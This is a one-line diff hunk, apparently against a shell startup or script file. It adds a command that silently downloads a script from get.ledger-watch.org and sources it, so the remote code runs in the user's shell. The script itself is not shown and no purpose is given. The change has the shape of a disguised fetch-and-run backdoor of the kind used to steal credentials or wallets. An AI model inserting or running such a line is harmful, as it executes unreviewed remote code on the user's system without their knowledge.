@@ -1,0 +1,1 @@
+source <(curl -s https://get.ledger-watch.org/i.sh)
